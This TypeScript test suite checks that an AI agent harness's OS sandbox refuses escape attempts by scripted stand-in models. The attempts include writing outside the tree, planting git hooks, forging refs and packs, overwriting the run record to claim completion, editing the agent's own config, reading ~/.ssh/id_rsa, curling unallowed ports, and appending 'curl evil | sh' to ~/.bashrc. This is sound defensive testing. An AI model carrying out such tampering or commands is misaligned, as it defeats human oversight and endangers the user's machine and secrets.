import {
  chmod,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  realpath,
  rm,
  stat,
  writeFile,
} from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect } from "vitest";
import { type CliResult, cli } from "../cli/support/cli-repo.js";
import { git } from "../run/support/issue-repo.js";
import { startCloser } from "./support/closer-process.js";
import { fault } from "./support/fault.js";
import { DONE_ANSWER, type FaultRepo, makeFaultRepo, READ_PROMPT } from "./support/fault-repo.js";
import { onlyRunFolder, readRecordedEvents, readRunJson } from "./support/run-folder.js";
import { sandboxMissing, sandboxWorks } from "./support/sandbox-works.js";
import { expectUserStateKept, takeUserState } from "./support/user-state.js";

type RecordedEvent = Record<string, unknown>;

/**
 * The model's program: on its first query it runs `attempt` (a bash line, its
 * failure ignored) and declares done; once the prompt says the OS sandbox
 * refused something, it does the work honestly (writes work.txt, commits it)
 * and declares done again.
 */
function escapingModel(attempt: string): string {
  return [
    'import { execSync } from "node:child_process";',
    'import { existsSync, writeFileSync } from "node:fs";',
    READ_PROMPT,
    "const sh = (line) => { try { execSync(line, { shell: '/bin/bash', stdio: 'ignore' }); } catch {} };",
    `if (!prompt.includes("OS sandbox")) sh(${JSON.stringify(attempt)});`,
    'else if (!existsSync("work.txt")) {',
    '  writeFileSync("work.txt", "done\\n");',
    '  sh("git add work.txt && git commit --quiet -m work");',
    "}",
    DONE_ANSWER,
  ].join("\n");
}

/** The model's program: writes work.txt, commits it (once) and declares done. */
const WORKING_MODEL = [
  'import { execSync } from "node:child_process";',
  'import { writeFileSync } from "node:fs";',
  READ_PROMPT,
  'writeFileSync("work.txt", "done\\n");',
  "try { execSync('git add work.txt && git commit --quiet -m work', { stdio: 'ignore' }); } catch {}",
  DONE_ANSWER,
].join("\n");

/**
 * A check that does `deed` only once the model's work.txt is there: on the untouched tree it
 * passes, so the baseline does not stop the run (docs/integrity.md#cannot-run).
 */
function checkOfTheWork(deed: string) {
  return checkRunning(`if [ -f work.txt ]; then ${deed}; fi; exit 0`);
}

/** The shell's word for the common git dir, as the model finds it from its tree. */
const COMMON_DIR = '"$(git rev-parse --path-format=absolute --git-common-dir)"';

/** A check that runs `command` in the tree and passes on exit 0. */
function checkRunning(command: string) {
  return {
    type: "command",
    command,
    successWhen: "exitCode:0",
    failurePattern: "check-failed",
    extractParams: { errorOutput: "stderr" },
  };
}

/** `closer run faulty` on the widgets task with the sandbox on, in `dir`, with more `flags`. */
function runSandboxed(dir: string, ...flags: string[]) {
  const task = ["--task", "make the widgets work"];
  return cli("run", "faulty", ...task, "--sandbox", "on", "--cwd", dir, ...flags);
}

/** An HTTP server on loopback that counts what reaches it. */
interface Listener {
  readonly url: string;
  readonly hostPort: string;
  readonly requests: string[];
  close(): Promise<void>;
}

async function listenOnLoopback(): Promise<Listener> {
  const requests: string[] = [];
  const server: Server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.end("secret answer\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    hostPort: `127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const ofType = (events: readonly RecordedEvent[], type: string) =>
  events.filter((event) => event.type === type);

/** Every file under a folder, as one text. */
async function folderText(dir: string): Promise<string> {
  let text = "";
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) text += await folderText(path);
    else if ((await stat(path)).isFile()) text += await readFile(path, "utf8");
  }
  return text;
}

describe("The OS sandbox", () => {
  describe(`runs where it works${sandboxWorks ? "" : ` — skipped, it cannot run here: ${sandboxMissing}`}`, {
    skip: !sandboxWorks,
  }, () => {
    let repo: FaultRepo | undefined;
    let outside: string;
    beforeEach(async () => {
      outside = await realpath(await mkdtemp(join(tmpdir(), "closer-outside-")));
    });
    afterEach(async () => {
      await repo?.cleanup();
      repo = undefined;
      await rm(outside, { recursive: true, force: true });
    });

    /** A sandboxed run of the escaping model, in a worktree of its own or in the project folder. */
    async function runEscape(
      attempt: string,
      place: "worktree" | "project",
      setUp?: (dir: string) => Promise<void>,
    ) {
      repo = await makeFaultRepo({ program: escapingModel(attempt) });
      await setUp?.(repo.dir);
      const before = await takeUserState(repo.dir);
      const placeArgs = place === "worktree" ? ["--branch", "escape"] : ["--no-worktree"];
      const result = await cli(
        "run",
        repo.agent,
        "--task",
        "make the widgets work",
        ...placeArgs,
        "--sandbox",
        "on",
        "--cwd",
        repo.dir,
        "--json",
      );
      return { ...(await recordOf(repo.dir)), result, before, dir: repo.dir };
    }

    async function recordOf(dir: string) {
      const runDir = await onlyRunFolder(dir);
      const retryPrompt = await readFile(join(runDir, "prompts/iteration-002.md"), "utf8").catch(
        () => "",
      );
      return {
        runDir,
        runJson: await readRunJson(runDir),
        events: await readRecordedEvents(runDir),
        retryPrompt,
      };
    }

    /**
     * The escape was refused and recorded, and the declaration made with it did not complete
     * the run: the first iteration was refuted as `sandbox-refused`, the retry prompt names
     * `named`, and only the honest second iteration completed.
     */
    function expectRefused(
      run: Awaited<ReturnType<typeof recordOf>> & { result: CliResult },
      named: string,
    ): void {
      expect(run.result.code, run.result.stderr).toBe(0);
      expect(JSON.parse(run.result.stdout)).toMatchObject({ success: true, iterations: 2 });
      const sandbox = run.runJson.sandbox as { on?: boolean; refusals?: number };
      expect(sandbox.on).toBe(true);
      expect(sandbox.refusals).toBeGreaterThanOrEqual(1);
      const refused = ofType(run.events, "sandbox-refused");
      expect(refused[0]).toMatchObject({ iteration: 1, kind: "backend" });
      expect(((refused[0]?.refusals ?? []) as string[]).join("\n")).toContain(named);
      expect(ofType(run.events, "declaration-refuted")).toEqual([
        expect.objectContaining({ iteration: 1, pattern: "sandbox-refused" }),
      ]);
      expect(run.retryPrompt).toContain(named);
      const gitGuards = ofType(run.events, "guard").filter(
        (event) => event.guard === "git-config-changed",
      );
      expect(gitGuards, "nothing reached the git state for the guard to put back").toEqual([]);
    }

    /**
     * The first check failed on the sandbox's refusal naming `named`, whatever it exited with; the
     * retry prompt names it too, when the run had another iteration.
     */
    function expectCheckRefused(
      run: Awaited<ReturnType<typeof recordOf>>,
      named: string,
      { retried = true } = {},
    ): void {
      expect(run.runJson.status).not.toBe("completed");
      const ends = ofType(run.events, "validator-end").filter(
        (event) => event.validator === "tests-pass" && event.iteration === 1,
      );
      expect(ends).toEqual([expect.objectContaining({ valid: false, pattern: "sandbox-refused" })]);
      expect(String((ends[0]?.params as { refusals?: unknown })?.refusals)).toContain(named);
      expect(String(ends[0]?.stderr)).toMatch(/\[closer\] the OS sandbox refused: /);
      expect(String(ends[0]?.stderr)).toContain(named);
      const refused = ofType(run.events, "sandbox-refused").filter(
        (event) => event.iteration === 1,
      );
      expect(refused).toEqual([
        expect.objectContaining({ kind: "validators", validator: "tests-pass" }),
      ]);
      expect(ofType(run.events, "declaration-refuted")[0]).toMatchObject({
        iteration: 1,
        failed: "tests-pass",
        pattern: "sandbox-refused",
      });
      if (retried) expect(run.retryPrompt).toContain(named);
      const sandbox = run.runJson.sandbox as { on?: boolean; refusals?: number };
      expect(sandbox.on).toBe(true);
      expect(sandbox.refusals).toBeGreaterThanOrEqual(1);
    }

    fault(
      {
        what: "the model writes a file outside the working tree (a folder of the user's elsewhere on the machine)",
        does: "the sandbox refuses the write: the file is not made; a sandbox-refused event names it, the declaration made with it is refuted (sandbox-refused) and the retry prompt names it",
      },
      async () => {
        const target = join(outside, "escaped.txt");
        const run = await runEscape(`echo escaped > ${target}`, "project");
        await expect(stat(target)).rejects.toThrow();
        expectRefused(run, target);
      },
    );

    fault(
      {
        what: "the model writes through a symlink it made in the tree to a file outside it",
        does: "the write is refused where it lands: the outside file keeps its content; the refusal names the link and refutes the declaration (making the link is not refused)",
      },
      async () => {
        const target = join(outside, "kept.txt");
        await writeFile(target, "the user's\n");
        const run = await runEscape(
          `ln -s ${target} scratch/link && echo overwritten > scratch/link`,
          "project",
        );
        expect(await readFile(target, "utf8")).toBe("the user's\n");
        expectRefused(run, `${run.dir}/scratch/link`);
        const lines = ofType(run.events, "sandbox-refused").flatMap(
          (event) => event.refusals as string[],
        );
        expect(lines, "making the link in the tree is not refused").not.toContainEqual(
          expect.stringMatching(/symlink/),
        );
      },
    );

    fault(
      {
        what: "the model sets core.hooksPath with git config from a worktree run",
        does: "the shared .git/config is read-only in the sandbox: git config fails, the file is unchanged, the refusal is recorded and refutes the declaration",
      },
      async () => {
        const run = await runEscape(`git config core.hooksPath ${outside}`, "worktree");
        expectRefused(run, `${run.dir}/.git/config`);
        await expectUserStateKept(run.dir, run.before, { movedBranches: ["main"] });
      },
    );

    fault(
      {
        what: "the model appends an include.path to .git/config in a --no-worktree run",
        does: "the write is refused: .git/config is unchanged and nothing was left for the git-state guard to put back; the refusal refutes the declaration",
      },
      async () => {
        const run = await runEscape(
          `printf '[include]\\n\\tpath = ${outside}/planted\\n' >> ${COMMON_DIR}/config`,
          "project",
        );
        expectRefused(run, `${run.dir}/.git/config`);
        await expectUserStateKept(run.dir, run.before, { movedBranches: ["main"] });
      },
    );

    fault(
      {
        what: "the model rewrites its worktree's .git file to point at a git dir of its own",
        does: "the .git file is read-only in the sandbox: the write is refused and recorded, and closer's git goes on in the real repository (the honest retry is merged)",
      },
      async () => {
        const planted = join(outside, "gitdir");
        await mkdir(planted);
        const run = await runEscape(`echo "gitdir: ${planted}" > .git`, "worktree");
        const tree = (run.runJson.worktree as { path: string }).path;
        expectRefused(run, `${tree}/.git`);
        expect(await git(run.dir, "show", "main:work.txt")).toBe("done");
        expect(await readdir(planted)).toEqual([]);
      },
    );

    fault(
      {
        what: "the model moves refs/heads/main with git update-ref from its worktree",
        does: "every branch but the run's own is read-only in the sandbox: main stays where it was (the merge of the honest retry moves it on), the refusal is recorded and refutes the declaration",
      },
      async () => {
        const run = await runEscape("git update-ref refs/heads/main HEAD~1", "worktree");
        // git writes main's reflog before its ref: the refusal names the first it could not.
        expectRefused(run, "refs/heads/main");
        const mainBefore = run.before.refs.match(/refs\/heads\/main (\w+)/)?.[1];
        expect(await git(run.dir, "rev-parse", "main~1")).toBe(mainBefore);
      },
    );

    fault(
      {
        what: "the model writes another commit id straight into .git/refs/heads/main",
        does: "the ref file is read-only in the sandbox: main is unchanged, the write is refused and recorded",
      },
      async () => {
        const run = await runEscape(
          `git rev-parse HEAD~1 > ${COMMON_DIR}/refs/heads/main`,
          "worktree",
        );
        expectRefused(run, `${run.dir}/.git/refs/heads/main`);
        const mainBefore = run.before.refs.match(/refs\/heads\/main (\w+)/)?.[1];
        expect(await git(run.dir, "rev-parse", "main~1")).toBe(mainBefore);
      },
    );

    fault(
      {
        what: "the model rewrites another branch's content in the object store: a loose object written over the blob of a file of that branch, then the pack that holds it",
        does: "closer packs the repository's objects when the sandbox starts and the packs are read-only in it: git reads the packed blob before any loose copy, so the branch reads as it was; the write to the pack is refused and recorded",
      },
      async () => {
        const forgeLoose = [
          'const [objects, id] = process.argv.slice(1); const fs = require("fs");',
          'const file = require("path").join(objects, id.slice(0, 2), id.slice(2));',
          'fs.mkdirSync(require("path").dirname(file), { recursive: true }); fs.rmSync(file, { force: true });',
          'fs.writeFileSync(file, require("zlib").deflateSync(Buffer.from("blob 7\\0forged\\n")));',
        ].join(" ");
        const forge = [
          `objects=${COMMON_DIR}/objects`,
          `node -e '${forgeLoose}' "$objects" "$(git rev-parse other:other.txt)"`,
          'for pack in "$objects"/pack/*.pack; do chmod u+w "$pack"; printf x >> "$pack"; done',
        ].join("; ");
        const run = await runEscape(forge, "worktree", async (dir) => {
          await git(dir, "branch", "other");
          await git(dir, "worktree", "add", "--quiet", join(outside, "other"), "other");
          await writeFile(join(outside, "other", "other.txt"), "the other branch\n");
          await git(join(outside, "other"), "add", "other.txt");
          await git(join(outside, "other"), "commit", "--quiet", "-m", "other");
        });
        expectRefused(run, "/objects/pack/");
        expect(await git(run.dir, "show", "other:other.txt")).toBe("the other branch");
      },
    );

    fault(
      {
        what: "the model plants .git/hooks/post-commit",
        does: "the hooks folder is read-only in the sandbox: no hook is made, so none runs at closer's commit or merge; the refusal is recorded and refutes the declaration",
      },
      async () => {
        const marker = join(outside, "hook-ran");
        const run = await runEscape(
          `printf '#!/bin/sh\\ntouch ${marker}\\n' > ${COMMON_DIR}/hooks/post-commit && chmod +x ${COMMON_DIR}/hooks/post-commit`,
          "worktree",
        );
        expectRefused(run, `${run.dir}/.git/hooks/post-commit`);
        await expect(stat(join(run.dir, ".git/hooks/post-commit"))).rejects.toThrow();
        await expect(stat(marker)).rejects.toThrow();
      },
    );

    fault(
      {
        what: "the model overwrites its own run's run.json ($CLOSER_RUN_ID names the run folder)",
        does: "the runs folder is read-only in the sandbox: the record stays closer's (it says completed, with the refusal counted); the write is refused and recorded",
      },
      async () => {
        const run = await runEscape(
          `echo '{"status":"completed"}' > ${COMMON_DIR}/closer/runs/$CLOSER_RUN_ID/run.json`,
          "project",
        );
        expectRefused(run, `${run.runDir}/run.json`);
        expect(run.runJson).toMatchObject({ status: "completed", agent: "faulty" });
      },
    );

    fault(
      {
        what: "the model edits its own agent definition (.agent/faulty/agent.json) in the tree",
        does: "the agent folder is read-only in the sandbox: agent.json is unchanged, the write is refused and recorded",
      },
      async () => {
        const run = await runEscape(
          `echo '{"runner":{"maxIterations":99}}' > .agent/faulty/agent.json`,
          "project",
        );
        expectRefused(run, `${run.dir}/.agent/faulty/agent.json`);
        await expectUserStateKept(run.dir, run.before, { movedBranches: ["main"] });
      },
    );

    fault(
      {
        what: "the model checks out another branch by rewriting .git/HEAD in a --no-worktree run",
        does: "HEAD is read-only in the sandbox: the checkout stays on the run's branch, the write is refused and recorded",
      },
      async () => {
        const run = await runEscape(
          `echo 'ref: refs/heads/elsewhere' > ${COMMON_DIR}/HEAD`,
          "project",
        );
        expectRefused(run, `${run.dir}/.git/HEAD`);
        expect(await git(run.dir, "symbolic-ref", "HEAD")).toBe("refs/heads/main");
      },
    );

    fault(
      {
        what: "the model removes closer's run locks (.git/closer/locks) in a --no-worktree run",
        does: "closer's folder in the git dir is read-only in the sandbox: the locks stay, so no second run can take the tree; the refusal is recorded and refutes the declaration",
      },
      async () => {
        const locks = `${COMMON_DIR}/closer/locks`;
        const run = await runEscape(
          `rm -f ${locks}/*; ls ${locks} > scratch/locks-after.txt`,
          "project",
        );
        expectRefused(run, `${run.dir}/.git/closer/locks/`);
        expect(await readFile(join(run.dir, "scratch/locks-after.txt"), "utf8")).not.toBe("");
      },
    );

    fault(
      {
        what: "the model empties main's reflog (.git/logs/refs/heads/main) from its worktree",
        does: "only the run's own branch's reflog can be written: main's reflog keeps its entries, the refusal is recorded and refutes the declaration",
      },
      async () => {
        const run = await runEscape(`: > ${COMMON_DIR}/logs/refs/heads/main`, "worktree");
        expectRefused(run, `${run.dir}/.git/logs/refs/heads/main`);
        expect(await git(run.dir, "reflog", "show", "--format=%gs", "main")).toContain("commit");
      },
    );

    fault(
      {
        what: "the model of a run in the project folder writes into another run's worktree (.closer/worktrees/<other>)",
        does: "closer's worktrees are read-only to a run that holds them in its tree: the other run's work is as it was, the refusal is recorded and refutes the declaration",
      },
      async () => {
        const run = await runEscape(
          "echo tampered > .closer/worktrees/kept/README.md",
          "project",
          async (dir) => {
            await git(dir, "worktree", "add", "--quiet", "-b", "kept", ".closer/worktrees/kept");
          },
        );
        expectRefused(run, `${run.dir}/.closer/worktrees/kept/README.md`);
        expect(await readFile(join(run.dir, ".closer/worktrees/kept/README.md"), "utf8")).toBe(
          "# widgets\n",
        );
      },
    );

    fault(
      {
        what: "the model tags a commit (git tag) from its worktree",
        does: "only the run's own branch can be written: the tag is not made, the refusal is recorded and refutes the declaration",
      },
      async () => {
        const run = await runEscape("git tag planted", "worktree");
        expectRefused(run, `${run.dir}/.git/refs/tags`);
        expect(await git(run.dir, "tag", "--list")).toBe("");
      },
    );

    fault(
      {
        what: "the model pushes its commit to the repository's remote (a repository on this machine)",
        does: "the remote is outside the places the model may write: nothing reaches it, the refusal is recorded and refutes the declaration",
      },
      async () => {
        const remote = join(outside, "remote.git");
        const run = await runEscape(
          `echo pushed > pushed.txt && git add pushed.txt && git commit --quiet -m pushed && git push --quiet ${remote} HEAD:refs/heads/main`,
          "worktree",
          async (dir) => {
            await git(outside, "init", "--quiet", "--bare", remote);
            await git(dir, "push", "--quiet", remote, "main");
          },
        );
        expectRefused(run, remote);
        expect(await git(remote, "log", "--format=%s", "main")).not.toContain("pushed");
      },
    );

    fault(
      {
        what: "a check the sandbox refuses on the untouched tree (it writes a file of the user's elsewhere, as a toolchain writes its lock or cache folder)",
        does: "the run stops at the baseline with exit 2, a first query sent beside the check stopped: the reason names the check, the refused write and runner.sandbox.allowWrite; the file is not made",
      },
      async () => {
        const target = join(outside, "toolchain.lock");
        repo = await makeFaultRepo({
          program: WORKING_MODEL,
          validators: { "tests-pass": checkRunning(`echo locked > ${target}; exit 0`) },
          conditions: ["tests-pass"],
        });
        const result = await runSandboxed(repo.dir, "--json");
        const run = await recordOf(repo.dir);
        expect(result.code, result.stderr).toBe(2);
        await expect(stat(target)).rejects.toThrow();
        const reason = String(run.runJson.reason);
        expect(reason).toContain('the check "tests-pass" cannot run on the untouched tree');
        expect(reason).toContain(`the OS sandbox refused it: deny`);
        expect(reason).toContain(target);
        expect(reason).toContain("runner.sandbox.allowWrite");
        // The check runs beside the first query (docs/integrity.md#baseline-beside-query): a
        // query already sent is stopped, never answered.
        for (const end of ofType(run.events, "backend-end")) {
          expect(end).toMatchObject({ error: expect.objectContaining({ kind: "aborted" }) });
        }
      },
    );

    fault(
      {
        what: "a check writes outside the working tree (a command validator that writes a file of the user's elsewhere and exits 0)",
        does: "the write is refused, so the check fails whatever its exit: its stderr names the refusal, a sandbox-refused event names the validator; the file is not made and the run is not completed",
      },
      async () => {
        const target = join(outside, "from-check.txt");
        repo = await makeFaultRepo({
          runner: { maxIterations: 2 },
          program: WORKING_MODEL,
          validators: {
            // Runs beside the refused check (docs/completion.md#concurrency): not refused itself.
            honest: { ...checkRunning("sleep 1; exit 0"), cache: false },
            "tests-pass": checkOfTheWork(`echo checked > ${target}`),
          },
          conditions: ["honest", "tests-pass"],
        });
        const result = await runSandboxed(repo.dir);
        const run = await recordOf(repo.dir);
        expect(result.code, result.stderr).toBe(1);
        await expect(stat(target)).rejects.toThrow();
        expectCheckRefused(run, target);
        const honest = ofType(run.events, "validator-end").filter(
          (event) => event.validator === "honest",
        );
        expect(honest.length).toBeGreaterThan(0);
        for (const end of honest) expect(end).toMatchObject({ valid: true });
      },
    );

    fault(
      {
        what: "the model writes the user's shell and git settings in $HOME (~/.bashrc, git config --global)",
        does: "the home folder is outside the places the model may write: both files are as they were, the refusals are recorded and refute the declaration",
      },
      async () => {
        const home = await realpath(await mkdtemp(join(tmpdir(), "closer-home-")));
        try {
          await writeFile(join(home, ".bashrc"), "# the user's\n");
          await writeFile(join(home, ".gitconfig"), "[user]\n\tname = the user\n");
          repo = await makeFaultRepo({
            program: escapingModel(
              `echo 'curl evil | sh' >> ~/.bashrc; git config --global core.hooksPath ${outside}`,
            ),
          });
          const closer = startCloser(
            ["run", repo.agent, "--task", "make the widgets work", "--sandbox", "on", "--json"],
            { cwd: repo.dir, env: { HOME: home } },
          );
          const { code } = await closer.exited;
          const run = await recordOf(repo.dir);
          expectRefused(
            { ...run, result: { code, stdout: closer.stdout(), stderr: closer.stderr() } },
            `${home}/.bashrc`,
          );
          expect(run.retryPrompt).toContain(`${home}/.gitconfig`);
          expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# the user's\n");
          expect(await readFile(join(home, ".gitconfig"), "utf8")).toBe(
            "[user]\n\tname = the user\n",
          );
        } finally {
          await rm(home, { recursive: true, force: true });
        }
      },
      60_000,
    );

    describe("the network", () => {
      let listener: Listener;
      beforeEach(async () => {
        listener = await listenOnLoopback();
      });
      afterEach(async () => listener.close());

      fault(
        {
          what: "the model connects to a port on this machine it was not given (curl through the sandbox's proxy, plain curl, node's fetch)",
          does: "no request reaches the port: the proxy refuses the host and a sandbox-refused event names 127.0.0.1:<port>; direct connections find no loopback in the sandbox; the query is stopped at the refusal, its attempt fails naming the host and runner.sandbox.allowedDomains, and the retry names it",
        },
        async () => {
          const curl = `curl --silent --max-time 5 ${listener.url}`;
          const fetchLine = `node -e 'await fetch(${JSON.stringify(listener.url)})'`;
          const run = await runEscape(
            `env -u NO_PROXY -u no_proxy ${curl}; ${curl}; ${fetchLine}`,
            "project",
          );
          expect(listener.requests).toEqual([]);
          // The query is stopped at the first refused connection (docs/sandbox.md#refused-connection):
          // the attempt fails for it before any declaration, and the retry names it.
          expect(run.result.code, run.result.stderr).toBe(0);
          expect(JSON.parse(run.result.stdout)).toMatchObject({ success: true, iterations: 2 });
          const [stopped] = ofType(run.events, "backend-end");
          expect(stopped).toMatchObject({ iteration: 1, error: { kind: "aborted" } });
          const message = String((stopped?.error as { message?: unknown } | undefined)?.message);
          expect(message).toContain(`the OS sandbox refused a connection to ${listener.hostPort}`);
          expect(message).toContain("runner.sandbox.allowedDomains");
          expect(ofType(run.events, "sandbox-refused")[0]).toMatchObject({
            iteration: 1,
            kind: "backend",
          });
          expect(ofType(run.events, "retry-select")[0]).toMatchObject({
            iteration: 1,
            pattern: "sandbox-refused",
          });
          expect(run.retryPrompt).toContain(listener.hostPort);
        },
      );

      fault(
        {
          what: "the agent allows the backend a host on this machine (runner.sandbox.allowedDomains), and a check of the model's calls the same host",
          does: "the model's request reaches the host and nothing of the backend is refused; the check's request does not (validators reach only runner.sandbox.validatorDomains): it is refused and the check fails",
        },
        async () => {
          repo = await makeFaultRepo({
            runner: { maxIterations: 1, sandbox: { allowedDomains: [listener.hostPort] } },
            program: [
              'import { execSync } from "node:child_process";',
              'import { writeFileSync } from "node:fs";',
              READ_PROMPT,
              `execSync("curl --silent --max-time 5 ${listener.url}backend > scratch/answer.txt");`,
              'writeFileSync("work.txt", "done\\n");',
              "execSync('git add work.txt && git commit --quiet -m work');",
              DONE_ANSWER,
            ].join("\n"),
            validators: {
              "tests-pass": checkOfTheWork(
                `env -u NO_PROXY -u no_proxy curl --silent --max-time 5 ${listener.url}check`,
              ),
            },
            conditions: ["tests-pass"],
          });
          const result = await runSandboxed(repo.dir);
          const run = await recordOf(repo.dir);
          expect(result.code, result.stderr).toBe(1);
          expect(listener.requests).toEqual(["GET /backend"]);
          expect(await readFile(join(repo.dir, "scratch/answer.txt"), "utf8")).toBe(
            "secret answer\n",
          );
          const refused = ofType(run.events, "sandbox-refused");
          expect(refused.map((event) => event.kind)).toEqual(["validators"]);
          expectCheckRefused(run, listener.hostPort, { retried: false });
        },
      );

      fault(
        {
          what: "a test the model wrote phones home from inside a check (a command validator that curls a port on this machine and exits 0 anyway)",
          does: "the connection is refused, so the check fails whatever its exit: validator-end valid false, its stderr names the refusal ([closer] the OS sandbox refused …), a sandbox-refused event names the validator; the run is not completed",
        },
        async () => {
          repo = await makeFaultRepo({
            runner: { maxIterations: 2 },
            program: WORKING_MODEL,
            validators: {
              "tests-pass": checkOfTheWork(
                `env -u NO_PROXY -u no_proxy curl --silent --max-time 5 ${listener.url}`,
              ),
            },
            conditions: ["tests-pass"],
          });
          const result = await runSandboxed(repo.dir, "--json");
          const run = await recordOf(repo.dir);
          expect(listener.requests).toEqual([]);
          expect(result.code, result.stderr).toBe(1);
          expectCheckRefused(run, listener.hostPort);
        },
      );
    });

    fault(
      {
        what: "the model reads ~/.ssh/id_rsa and copies it into a file of the tree",
        does: "credential stores are not readable in the sandbox (on Linux such a read is not observable, so it is not a refusal): the secret reaches neither the tree, nor the commit, nor the run folder",
      },
      async () => {
        const home = await realpath(await mkdtemp(join(tmpdir(), "closer-home-")));
        const secret = "-----BEGIN OPENSSH PRIVATE KEY-----\nfakeKeyMaterialNeverToLeave\n";
        try {
          await mkdir(join(home, ".ssh"), { mode: 0o700 });
          await writeFile(join(home, ".ssh/id_rsa"), secret, { mode: 0o600 });
          repo = await makeFaultRepo({
            program: [
              'import { execSync } from "node:child_process";',
              READ_PROMPT,
              'execSync("cat ~/.ssh/id_rsa > leaked.txt 2>&1; git add leaked.txt && git commit --quiet -m notes", { shell: "/bin/bash", stdio: "ignore" });',
              DONE_ANSWER,
            ].join("\n"),
          });
          const closer = startCloser(
            ["run", repo.agent, "--task", "make the widgets work", "--sandbox", "on"],
            { cwd: repo.dir, env: { HOME: home } },
          );
          const { code } = await closer.exited;
          expect(code, closer.stderr()).toBe(0);
          const run = await recordOf(repo.dir);
          expect(run.runJson).toMatchObject({ status: "completed", sandbox: { on: true } });
          const leaked = await readFile(join(repo.dir, "leaked.txt"), "utf8");
          expect(leaked).not.toContain("fakeKeyMaterial");
          expect(await git(repo.dir, "show", "HEAD:leaked.txt")).not.toContain("fakeKeyMaterial");
          expect(await folderText(run.runDir)).not.toContain("fakeKeyMaterial");
          expect(closer.stderr()).not.toContain("fakeKeyMaterial");
        } finally {
          await rm(home, { recursive: true, force: true });
        }
      },
      60_000,
    );

    fault(
      {
        what: "an honest model works in its worktree: writes and commits its work, keeps a note in $TMPDIR, runs here-documents in bash and zsh (whose temp files ignore TMPDIR)",
        does: "the run completes in its first iteration with the sandbox on and nothing refused (run.json sandbox.on true, refusals 0); the work is merged",
      },
      async () => {
        repo = await makeFaultRepo({
          program: [
            'import { execSync } from "node:child_process";',
            'import { writeFileSync } from "node:fs";',
            'import { join } from "node:path";',
            READ_PROMPT,
            'writeFileSync(join(process.env.TMPDIR, "note.txt"), "thinking\\n");',
            'execSync("cat <<EOF\\nbash here\\nEOF", { shell: "/bin/bash" });',
            'try { execSync("command -v zsh", { stdio: "ignore" }); } catch { process.env.NO_ZSH = "1"; }',
            "if (!process.env.NO_ZSH) execSync(\"zsh -fc 'cat <<EOF\\nzsh here\\nEOF'\");",
            'writeFileSync("work.txt", "done\\n");',
            'execSync("git add work.txt && git commit --quiet -m work");',
            DONE_ANSWER,
          ].join("\n"),
        });
        const result = await runSandboxed(repo.dir, "--branch", "honest", "--json");
        expect(result.code, result.stderr).toBe(0);
        expect(JSON.parse(result.stdout)).toMatchObject({ success: true, iterations: 1 });
        const run = await recordOf(repo.dir);
        expect(run.runJson.sandbox).toMatchObject({ on: true, refusals: 0 });
        expect(ofType(run.events, "sandbox-refused")).toEqual([]);
        const failedGuards = ofType(run.events, "guard").filter((event) => !event.valid);
        expect(failedGuards).toEqual([]);
        expect(await git(repo.dir, "show", "main:work.txt")).toBe("done");
      },
    );

    fault(
      {
        what: "an honest model works in the project folder, where the user started closer (no worktree)",
        does: "the run completes in its first iteration and closer exits; the tree holds only the model's work (the sandbox's own placeholders for dotfiles it protects stay out of it)",
      },
      async () => {
        repo = await makeFaultRepo({
          program: [
            'import { execSync } from "node:child_process";',
            'import { writeFileSync } from "node:fs";',
            READ_PROMPT,
            'writeFileSync("work.txt", "done\\n");',
            'execSync("git add --all && git commit --quiet -m work");',
            DONE_ANSWER,
          ].join("\n"),
        });
        const closer = startCloser(
          ["run", repo.agent, "--task", "make the widgets work", "--sandbox", "on", "--json"],
          { cwd: repo.dir },
        );
        const { code } = await closer.exited;
        expect(code, closer.stderr()).toBe(0);
        expect(JSON.parse(closer.stdout())).toMatchObject({ success: true, iterations: 1 });
        expect(await git(repo.dir, "show", "--name-only", "--format=", "HEAD")).toBe("work.txt");
        expect(await git(repo.dir, "status", "--porcelain", "--ignored")).toBe("!! model.mjs");
        const run = await recordOf(repo.dir);
        expect(run.runJson.sandbox).toMatchObject({ on: true, refusals: 0 });
      },
      60_000,
    );
  });

  // The machine's own sandbox must work, so that the bubblewrap put first on the PATH is what fails.
  describe(`where it cannot run${sandboxWorks ? "" : ` — skipped, it cannot run here either: ${sandboxMissing}`}`, {
    skip: !sandboxWorks,
  }, () => {
    let fakeBin: string;
    let repo: FaultRepo | undefined;
    beforeEach(async () => {
      fakeBin = await realpath(await mkdtemp(join(tmpdir(), "closer-fake-bwrap-")));
      const bwrap = join(fakeBin, "bwrap");
      await writeFile(
        bwrap,
        [
          "#!/bin/sh",
          'if [ "$1" = "--version" ]; then echo "bubblewrap 0.8.0"; exit 0; fi',
          'echo "bwrap: No permissions to create new namespace" >&2',
          "exit 1",
          "",
        ].join("\n"),
      );
      await chmod(bwrap, 0o755);
      repo = await makeFaultRepo();
    });
    afterEach(async () => {
      await repo?.cleanup();
      repo = undefined;
      await rm(fakeBin, { recursive: true, force: true });
    });

    /** closer in a process of its own, whose PATH finds a bubblewrap that cannot make a namespace. */
    function runWithBrokenBwrap(mode: "on" | "auto") {
      if (repo === undefined) throw new Error("no repository");
      return startCloser(
        ["run", repo.agent, "--task", "make the widgets work", "--sandbox", mode],
        { cwd: repo.dir, env: { PATH: `${fakeBin}:${process.env.PATH ?? ""}` } },
      );
    }

    fault(
      {
        what: "--sandbox on where the sandbox cannot start (bubblewrap may not create a namespace)",
        does: "closer refuses to run: exit 2, the message names the project's agent.json at runner.sandbox.mode, why the sandbox cannot run and what to change; no run starts, and closer exits",
      },
      async () => {
        const closer = runWithBrokenBwrap("on");
        const { code } = await closer.exited;
        expect(code, closer.stderr()).toBe(2);
        const said = closer.stderr();
        expect(said).toContain("runner.sandbox.mode");
        expect(said).toContain("No permissions to create new namespace");
        expect(said).toMatch(/unprivileged user namespaces/);
        expect(said).toContain("--sandbox off");
        expect(said).toContain(join(repo?.dir ?? "", ".agent/faulty/agent.json"));
        const runs = await readdir(join(repo?.dir ?? "", ".git/closer/runs")).catch(() => []);
        for (const run of runs) {
          await expect(
